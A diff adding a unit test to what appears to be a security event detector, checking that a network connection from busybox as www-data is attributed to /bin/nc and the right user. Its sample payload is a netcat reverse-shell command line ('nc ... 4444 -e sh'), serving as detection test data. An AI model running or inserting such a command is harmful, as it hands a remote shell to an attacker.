@@ -421,6 +421,15 @@ describe('fields', () => {
       );
     });
 
+  it('of a connection have the program that a multi-call binary is, and the name of its user', () => {
+    const payload = { Executable: '/bin/busybox', CommandLine: 'nc 192.0.2.1 4444 -e sh', UserId: '33' };
+    const userNameOf = (userId: number) => (userId === 33 ? 'www-data' : undefined);
+    const all = subjectOf({ name: 'ConnectionCreate', payload, time: 0, userNameOf })?.fields;
+    assert.deepEqual([all?.Image, all?.User, all?.UserName], ['/bin/nc', 'www-data', 'www-data']);
+    const others = fields('ConnectionCreate', { ...payload, Executable: '/usr/bin/curl', UserId: '34' });
+    assert.deepEqual([others?.Image, others?.User], ['/usr/bin/curl', undefined], 'argv[0] is not believed');
+  });
+
   it('have no value that no event gave them', () => {
     for (const name of ['constructor', '__proto__', 'toString']) {
       const detector = new Detector({
